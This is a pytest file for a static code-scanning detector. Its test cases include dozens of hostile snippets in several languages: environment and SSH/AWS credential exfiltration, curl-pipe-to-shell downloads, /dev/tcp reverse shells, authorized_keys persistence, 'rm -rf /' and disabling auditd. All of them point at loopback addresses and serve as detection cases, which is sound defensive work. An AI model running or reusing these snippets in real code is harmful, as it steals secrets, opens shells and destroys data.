"""Capabilities and threats. All payloads are harmless: loopback addresses, marker values, text that is never run."""

# ruff: noqa: E501 - a case is a line

from __future__ import annotations

import pytest

from codeguard.analysis import Reading
from codeguard.analysis.rules.base import DetectorContext, Match
from codeguard.analysis.rules.capabilities import SIGNAL
from codeguard.corpus.chunking.chunker import chunk_file
from codeguard.models import Severity

DEFAULTS = {rule.id: rule.severity for rule in SIGNAL.rules}


def inspect(text: str, name: str = "x.py") -> list[Match]:
    return list(SIGNAL.inspect(Reading(chunk_file(name, text.encode())), DetectorContext()))


def accused(text: str, name: str = "x.py") -> set[str]:
    """Return the rules of medium severity and above."""
    found = inspect(text, name)
    severity = {id(item): DEFAULTS[item.rule] if item.severity is None else item.severity for item in found}
    return {item.rule for item in found if severity[id(item)] >= Severity.MEDIUM}


PYTHON = [
    # exfiltration
    ("import os, requests\ndef f(u):\n    requests.post(u, json=dict(os.environ))", "exfiltration"),
    ("from os import environ as e\nimport httpx\ndef f(u):\n    d = {k: v for k, v in e.items()}\n    httpx.post(u, data=d)", "exfiltration"),
    ("import os, urllib.request\ndef f(u):\n    b = str(os.environ).encode()\n    urllib.request.urlopen(u, b)", "exfiltration"),
    ("import os, socket\ndef f():\n    s = socket.socket()\n    s.connect(('127.0.0.1', 9))\n    s.sendall(repr(os.environ).encode())", "exfiltration"),
    ("import requests, os\ndef f(u):\n    p = os.path.expanduser('~/.ssh/id_rsa')\n    with open(p) as h:\n        k = h.read()\n    requests.post(u, data=k)", "exfiltration"),
    ("import requests\nfrom pathlib import Path\ndef f(u):\n    requests.put(u, data=(Path.home() / '.aws' / 'credentials').read_bytes())", "exfiltration"),
    ("import os, requests\ndef send(u, d):\n    requests.post(u, json=d)\ndef f(u):\n    send(u, dict(os.environ))", "exfiltration"),
    ("import os, requests\ndef take():\n    return dict(os.environ)\ndef f(u):\n    requests.post(u, json=take())", "exfiltration"),
    ("def f(u):\n    r = __import__('req' + 'uests')\n    o = __import__('os')\n    getattr(r, 'post')(u, json=dict(o.environ))", "exfiltration"),
    ("import os, base64, requests\ndef f(u):\n    x = base64.b64encode(str(os.environ).encode())\n    requests.get(u, params={'q': x})", "exfiltration"),
    # download and run
    ("import requests\ndef f(u):\n    exec(requests.get(u).text)", "download-and-run"),
    ("import urllib.request as r\ndef f(u):\n    c = r.urlopen(u).read().decode()\n    eval(compile(c, 'x', 'exec'))", "download-and-run"),
    ("import requests, subprocess\ndef f(u):\n    c = requests.get(u).json()\n    subprocess.run(c['cmd'], shell=True)", "download-and-run"),
    ("import socket, os\ndef f():\n    s = socket.create_connection(('127.0.0.1', 9))\n    os.system(s.recv(99).decode())", "download-and-run"),
    ("import os\ndef f():\n    os.system('curl -s http://127.0.0.1:9/i.sh | sh')", "download-and-run"),
    ("import subprocess\ndef f():\n    subprocess.run(['bash', '-c', 'wget -qO- http://127.0.0.1:9/x | sudo bash'])", "download-and-run"),
    # decoded
    ("import base64\nexec(base64.b64decode('cHJpbnQoMSkgICMgbWFya2Vy'))", "decoded-exec"),
    ("import base64 as b, zlib\nk = 'eJwrKMrMK9EwBAAKvQJZ'\ndef f():\n    c = zlib.decompress(b.b64decode(k))\n    exec(c)", "decoded-exec"),
    ("import marshal, base64\nexec(marshal.loads(base64.b64decode(b'4wAAAAAAAAAAAAAA')))", "decoded-exec"),
    ("e = getattr(__builtins__, 'ex' + 'ec')\ne(bytes.fromhex('7072696e742831292020').decode())", "decoded-exec"),
    ("import os, base64\ndef f():\n    os.system(base64.b64decode('ZWNobyBtYXJrZXI=').decode())", "decoded-exec"),
    # shells, persistence, destruction
    ("import socket, subprocess, os\ndef f():\n    s = socket.socket()\n    s.connect(('127.0.0.1', 9))\n    os.dup2(s.fileno(), 0)\n    subprocess.call(['sh', '-i'])", "reverse-shell"),
    ("import socket, subprocess\ndef f():\n    s = socket.create_connection(('127.0.0.1', 9))\n    subprocess.Popen(['sh'], stdin=s.makefile(), stdout=s)", "reverse-shell"),
    ("import os\ndef f():\n    os.system('bash -i >& /dev/tcp/127.0.0.1/9 0>&1')", "reverse-shell"),
    ("import os\ndef f(k):\n    with open(os.path.expanduser('~/.bashrc'), 'a') as h:\n        h.write('echo marker')", "persistence"),
    ("from pathlib import Path\ndef f(k):\n    (Path.home() / '.ssh/authorized_keys').write_text(k)", "persistence"),
    ("import os\ndef f():\n    os.system('(crontab -l; echo \"* * * * * true\") | crontab -')", "persistence"),
    ("import shutil, os\ndef f():\n    shutil.rmtree(os.path.expanduser('~'))", "destroys"),
    ("import subprocess\ndef f():\n    subprocess.run('rm -rf ~/', shell=True)", "destroys"),
    ("import os\ndef f():\n    os.system('ufw disable && systemctl stop auditd')", "disables-security"),
    # tampering, import time, install time, empty checks
    ("import ssl\nssl._create_default_https_context = ssl._create_unverified_context", "tampered-verification"),
    ("import hmac\nhmac.compare_digest = lambda a, b: True", "tampered-verification"),
    ("import ssl\nsetattr(ssl, 'match_hostname', lambda *a: None)", "tampered-verification"),
    ("import sys\nsys.modules['ssl'] = object()", "tampered-verification"),
    ("import sys\ntry:\n    import ssl, x\nexcept ImportError:\n    sys.modules['ssl'] = object()", "tampered-verification"),
    ("import sys, subprocess\ndef f(e, a):\n    raise subprocess.run([e])\nsys.addaudithook(f)", "spies"),
    ("import sys, subprocess\ndef f(e, a):\n    SEEN[e] = a\nsys.addaudithook(f)\ndef g():\n    subprocess.run(SEEN)", "spies"),
    ("import subprocess\nsubprocess.Popen(['true'])", "import-effect"),
    ("import requests\nclass A:\n    v = requests.get('http://127.0.0.1:9/')", "import-effect"),
    ("from setuptools.command.develop import develop\nimport os\nclass D(develop):\n    def run(self):\n        os.system('true')", "install-hook"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "rule"), PYTHON)
def test_threats(text: str, rule: str) -> None:
    assert rule in accused(text)


HONEST = [
    "import os, requests\ndef f(u, d):\n    h = {'Authorization': 'Bearer ' + os.environ['TOKEN']}\n    return requests.post(u, json=d, headers=h)",
    "import os, requests\ndef f():\n    return requests.get(os.environ['API_URL']).json()",
    "import requests\ndef f(u, path):\n    with open(path, 'rb') as h:\n        requests.post(u, files={'file': h})",
    "import base64\nICON = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ')\ndef f():\n    open('x', 'wb').write(ICON)",
    "import subprocess\ndef f():\n    return subprocess.check_output(['git', 'rev-parse', 'HEAD'])",
    "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['true'])",
    "import os, subprocess\ndef f(c):\n    subprocess.run(c, env=dict(os.environ, A='1'))",
    "import json, requests\ndef f(u):\n    d = requests.get(u).json()\n    with open('cache.json', 'w') as h:\n        json.dump(d, h)",
    "def namedtuple(src):\n    ns = {}\n    exec('def f(): return ' + repr(src), ns)\n    return ns['f']",
    "import shutil, tempfile\ndef f():\n    d = tempfile.mkdtemp()\n    shutil.rmtree(d)",
    "import ssl\ndef f():\n    c = ssl.create_default_context()\n    c.check_hostname = True\n    return c",
    "class Base:\n    def verify(self, token):\n        raise NotImplementedError\n    def encrypt(self, key): ...",
    "def verify_token(token, key):\n    return hmac.compare_digest(token, sign(key))",
    "import socket\ndef f(h):\n    with socket.create_connection((h, 80)) as s:\n        s.sendall(b'GET / HTTP/1.0')\n        return s.recv(99)",
    "import os\nHELP = 'curl https://sh.example.org | sh'\ndef f():\n    print(HELP)",
    "from setuptools.command.build_ext import build_ext\nimport subprocess\nclass B(build_ext):\n    def run(self):\n        subprocess.run(['make'])",
    "import os\ndef f():\n    with open(os.path.expanduser('~/.bashrc')) as h:\n        return h.read()",
]  # fmt: skip


@pytest.mark.parametrize("text", HONEST)
def test_honest_code(text: str) -> None:
    assert accused(text) == set()


OTHERS = [
    ("curl -fsSL http://127.0.0.1:9/x | bash\n", "x.sh", {"download-and-run"}),
    ("bash <(curl -s http://127.0.0.1:9/x)\n", "x.sh", {"download-and-run"}),
    ("echo bWFya2Vy | base64 -d | sh\n", "x.sh", {"decoded-exec"}),
    ("echo key >> ~/.ssh/authorized_keys\n", "x.sh", {"persistence"}),
    ("rm -rf /\n", "x.sh", {"destroys"}),
    ("env | curl -d @- http://127.0.0.1:9/\n", "x.sh", {"exfiltration"}),
    ("# curl http://127.0.0.1:9/x | bash\ncurl -o f http://127.0.0.1:9/f\nrm -rf ./build\n", "x.sh", set()),
    ("curl -s https://example.org/list | grep shell\n", "x.sh", set()),
    ("eval(Buffer.from('bWFya2Vy', 'base64').toString())\n", "x.js", {"decoded-exec"}),
    ("eval(atob('bWFya2Vy'))\n", "x.js", {"decoded-exec"}),
    ("https.get(u, res => { res.on('data', d => eval(d.toString())) })\n", "x.js", {"download-and-run"}),
    ("fetch(u, {method: 'POST', body: JSON.stringify(process.env)})\n", "x.ts", {"exfiltration"}),
    ("require('child_process').execSync('curl http://127.0.0.1:9/x | sh')\n", "x.js", {"download-and-run"}),
    ('int f() { return system("cd /tmp; curl http://127.0.0.1:9/x | sh"); }\n', "x.c", {"download-and-run"}),
    ('int f() { return std::system("curl http://127.0.0.1:9/x | sh"); }\n', "x.cpp", {"download-and-run"}),
    (
        'class A { void f() { Process.Start("/bin/sh", "-c \\"curl http://127.0.0.1:9/x | sh\\""); } }\n',
        "x.cs",
        {"download-and-run"},
    ),
    (
        'fn f() {\n    Command::new("sh")\n        .arg("-c")\n        .arg("curl http://127.0.0.1:9/x | sh")\n        .spawn();\n}\n',
        "x.rs",
        {"download-and-run"},
    ),
    (
        '// system("curl http://127.0.0.1:9/x | sh");\nint f() { system("ls"); puts("curl http://127.0.0.1:9/x | sh"); }\n',
        "x.c",
        set(),
    ),
    (
        "const b = Buffer.from(text, 'base64')\nfetch(process.env.API_URL).then(r => r.json())\n",
        "x.js",
        set(),
    ),
]


@pytest.mark.parametrize(("text", "name", "rules"), OTHERS)
def test_other_languages(text: str, name: str, rules: set[str]) -> None:
    assert accused(text, name) == rules


@pytest.mark.parametrize(
    "text",
    [
        "import os\n" + "os.system(" * 3_000,
        "x = " + "+".join(["os.environ"] * 3_000) + "\nexec(x)\n",
        "def f(a):\n" + "    a = f(a)\n" * 5_000,
        "\n".join(f"def f{n}(a):\n    return f{n + 1}(a)" for n in range(1_500)),
        "curl " * 30_000,
    ],
)
def test_hostile_files_are_bounded(text: str) -> None:
    assert len(inspect(text)) < 5_000


@pytest.mark.parametrize(
    "text", ['system("' * 30_000, 'system("' + '\\"' * 100_000, "Command::new(" + '"x",' * 50_000]
)
def test_hostile_texts_with_commands_are_bounded(text: str) -> None:
    assert not accused(text, "x.c")
